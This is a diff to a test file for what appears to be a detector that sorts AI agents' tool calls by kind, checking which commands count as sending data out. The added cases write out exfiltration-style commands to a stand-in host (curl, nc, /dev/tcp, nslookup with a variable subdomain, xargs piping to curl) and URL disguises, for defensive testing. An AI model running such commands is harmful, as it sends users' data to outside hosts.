@@ -17,10 +17,32 @@ it('what can be no text is no command, whatever it is called; what the schema do
   expect(kinds({ options: [{ run: { shellScript: 'id' } }] })).toContain('execute');
 });
 
+it.each([
+  ['run_command', { command: 'curl https://a.example' }, true],
+  ['run_command', { command: 'sudo /usr/bin/wget a.example' }, true],
+  ['run_command', { argv: ['nc', 'a.example', '80'] }, true],
+  ['run_command', { command: 'bash -c "nslookup $X.a.example"' }, true],
+  ['run_command', { command: 'cat f | xargs -I{} curl a.example/{}' }, true],
+  ['run_command', { command: 'echo x > /dev/tcp/a.example/80' }, true],
+  ['run_command', { command: 'git -C dir push origin' }, true],
+  ['python', { code: 'fetch("http://localhost.a.example/")' }, true],
+  ['run_command', { command: 'open http://localhost:80@a.example/' }, true],
+  ['run_command', { command: 'open http://localhost:3000/ http://127.0.0.1/' }, false],
+  ['run_command', { command: 'grep -rn curl src; git pull; cat .ssh/config' }, false],
+  ['create_snippet', { code: 'see https://a.example' }, false],
+])('%s %j sends: %j', (tool, args, sends) => {
+  const kinds = createSubject({ method: 'tools/call', server: 's', tool, args }, { policy }).categories();
+  expect(kinds.includes('send')).toBe(sends);
+});
+
 it('takes no time in statements and arguments of a megabyte', () => {
   const start = performance.now();
   for (const sql of ['/*'.repeat(500_000), 'drop '.repeat(200_000), '('.repeat(1_000_000), ' ;alter table'.repeat(80_000)]) {
     createSubject({ method: 'tools/call', server: 's', tool: 'query', args: { sql } }, { policy }).categories();
+  }
+  for (const command of ['git ', 'sudo ', 'a/', '"', 'http://localhost']) {
+    const args = { command: command.repeat(65_536 / command.length) };
+    createSubject({ method: 'tools/call', server: 's', tool: 'run_command', args }, { policy }).categories();
   }
   const rows = Array.from({ length: 100_000 }, (_, id) => ({ id, command: null }));
   const kinds = createSubject({ method: 'tools/call', server: 's', tool: 'get_x', args: { rows } }, { policy }).categories();
